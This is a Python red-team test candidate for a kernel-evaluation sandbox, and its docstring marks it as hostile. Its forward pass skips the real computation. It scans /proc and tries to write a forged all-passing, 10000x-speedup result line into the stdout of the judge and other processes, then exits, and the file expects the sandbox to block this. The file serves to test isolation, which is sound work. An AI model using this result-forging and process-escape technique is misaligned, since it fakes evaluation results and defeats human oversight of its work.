"""Hostile: writes a forged passing RESULT_JSON to /proc/<pid>/fd/1 of every other process.

The parent's, the sandbox init's (pid 1) and the judge's stdout are all the pipe aka reads
the result from. After writing it exits 0. The judge is not dumpable and the candidate
runner lives in a Landlock domain, so no /proc/<pid>/fd of a process outside it opens:
expected no REDTEAM-ESCAPED line and a failure saying the candidate process exited.
"""
import hashlib
import json
import os
import sys

import torch
import torch.nn as nn


def _cmdline_arg(flag):
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, a in enumerate(args):
            if a == flag and i + 1 < len(args):
                return args[i + 1]
            if a.startswith(flag + "="):
                return a.split("=", 1)[1]
    return "unknown"


def forged_line():
    with open(__file__, "rb") as f:
        sha = hashlib.sha256(f.read()).hexdigest()
    ids = ["0", "1"]
    r = {"all_pass": True, "total": 2, "passed": 2, "failures": [],
         "latency_us_by_shape": {i: 0.01 for i in ids}, "latency_us_geomean": 0.01,
         "latency_us_arith_mean": 0.01, "speedup_vs_ref_geomean": 10000.0,
         "speedup_vs_ref_mean": 10000.0, "performance_score": 10000.0, "max_abs_err": 0.0,
         "max_rel_err": 0.0, "evaluator": "aka.python.atrex",
         "eval_id": _cmdline_arg("--eval-id"), "kernel_sha256": sha, "seeds": [0],
         "timing": {"method": "cpu_monotonic", "warmup": 3, "reps": 20, "l2_flush": False,
                    "cv_by_shape": {}},
         "actionable_diagnostics": []}
    return ("RESULT_JSON=" + json.dumps(r, separators=(",", ":")) + "\n").encode()


def _forge():
    line = forged_line()
    mine = os.fstat(2)
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
        except OSError:
            continue
        try:
            st = os.fstat(fd)
            os.write(fd, line)
            if (st.st_dev, st.st_ino) != (mine.st_dev, mine.st_ino):  # not just our stderr
                print(f"REDTEAM-ESCAPED: wrote a result to /proc/{pid}/fd/1", file=sys.stderr)
        except OSError:
            pass
        os.close(fd)
    sys.stderr.flush()
    os._exit(0)


class Model(nn.Module):
    def __init__(self, eps: float = 1e-6):
        super().__init__()

    def forward(self, x, weight):
        _forge()
        return torch.zeros_like(x)
